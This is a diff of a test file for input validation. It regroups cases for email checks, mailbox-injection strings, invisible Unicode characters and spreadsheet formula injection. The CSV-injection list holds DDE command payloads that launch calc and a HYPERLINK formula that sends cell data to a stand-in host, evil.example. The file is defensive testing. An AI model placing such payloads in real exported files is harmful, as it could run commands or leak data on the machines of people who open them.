@@ -47,27 +47,25 @@ test('accepts an email address only with an at sign and a dot after it, each bet
   for (const address of ['a@b.c', 'a.b@c.d', 'a+b@c-d.ef', 'a@b.c.d', 'अ@ब.स']) {
     expect(EMAIL_PATTERN.test(address), address).toBe(true);
   }
-  for (const address of [
-    ...['', 'a', 'a@', '@b.c', 'a@b', 'a@b.', 'a@.c'],
-    ...['a b@c.d', 'a@b c.d', 'a@b.c d', 'a@b@c.d', 'a@b.c\n'],
-  ]) {
+  const incomplete = ['', 'a', 'a@', '@b.c', 'a@b', 'a@b.', 'a@.c'];
+  const separated = ['a b@c.d', 'a@b c.d', 'a@b.c d', 'a@b@c.d', 'a@b.c\n'];
+  for (const address of [...incomplete, ...separated]) {
     expect(EMAIL_PATTERN.test(address), address).toBe(false);
   }
 });
 
 test('1.3.11 rejects email addresses that could reach another mailbox', () => {
-  for (const address of [
-    ...['asha,victim@example.com', 'asha<victim@example.com>', '"victim@example.com'],
-    ...['asha;b@example.com', 'mailto:asha@example.com', 'asha(victim)@example.com'],
-  ]) {
+  const listed = ['asha,victim@example.com', 'asha;b@example.com', 'mailto:asha@example.com'];
+  const quoted = ['asha<victim@example.com>', '"victim@example.com', 'asha(victim)@example.com'];
+  for (const address of [...listed, ...quoted]) {
     expect(emailAddress.safeParse(address).success, address).toBe(false);
   }
 });
 
-const INVISIBLE = [
-  ...['\u00ad', '\u034f', '\u061c', '\u115f', '\u180e', '\u200b', '\u200e', '\u200f', '\u202a'],
-  ...['\u202e', '\u2060', '\u2066', '\u2069', '\u2800', '\u3164', '\ufeff', '\uffa0', '\u{e0041}'],
-];
+const FILLERS = ['\u00ad', '\u034f', '\u115f', '\u180e', '\u2800', '\u3164', '\uffa0', '\u{e0041}'];
+const ZERO_WIDTH = ['\u200b', '\u2060', '\ufeff'];
+const DIRECTION = ['\u061c', '\u200e', '\u200f', '\u202a', '\u202e', '\u2066', '\u2069'];
+const INVISIBLE = [...FILLERS, ...ZERO_WIDTH, ...DIRECTION];
 
 test.each(INVISIBLE)('removes the invisible character %j from every kind of text', (character) => {
   expect(line.parse(`As${character}ha${character}`)).toBe('Asha');
@@ -111,12 +109,21 @@ test.each([
 });
 
 /** Inputs from OWASP's page about CSV injection and from published lists of attacks. */
+const formulas = ['=1+1', '+1+1', '-1+1', '+919876543210', '+91 98765=1+1', ';=cmd'];
+const commands = ["@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"];
+const calls = ["%0A-3+3+cmd|' /C calc'!D2\n-1", '=HYPERLINK("http://evil.example?x="&A1,"here")'];
+const afterSpace = ['\t=1+1', '\r=1+1', '\u0000=1+1', '\n=1+1', ' =1+1'];
+const secondCell = ['a,=1+1', 'a;=1+1', 'a|=1+1', 'a\t=1+1', 'a","=1+1', '"=1+1'];
+const secondLine = ['a\n=1+1', 'a\r\n=1+1'];
+const fullWidth = ['＝1+1', '＋1', '－1', '＠SUM(1)'];
 const attacks = [
-  ...['=1+1', '+1+1', '-1+1', "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"],
-  '=HYPERLINK("http://evil.example?x="&A1,"here")',
-  ...['+919876543210', '+91 98765=1+1', '\t=1+1', '\r=1+1', '\u0000=1+1', '\n=1+1', ' =1+1'],
-  ...['a,=1+1', 'a;=1+1', 'a|=1+1', 'a\t=1+1', 'a\n=1+1', 'a\r\n=1+1', 'a","=1+1', '"=1+1'],
-  ...['＝1+1', '＋1', '－1', '＠SUM(1)', "%0A-3+3+cmd|' /C calc'!D2\n-1", ';=cmd'],
+  ...formulas,
+  ...commands,
+  ...calls,
+  ...afterSpace,
+  ...secondCell,
+  ...secondLine,
+  ...fullWidth,
 ];
 
 /** Returns every cell that a spreadsheet could read, whichever separator or quotes it expects. */
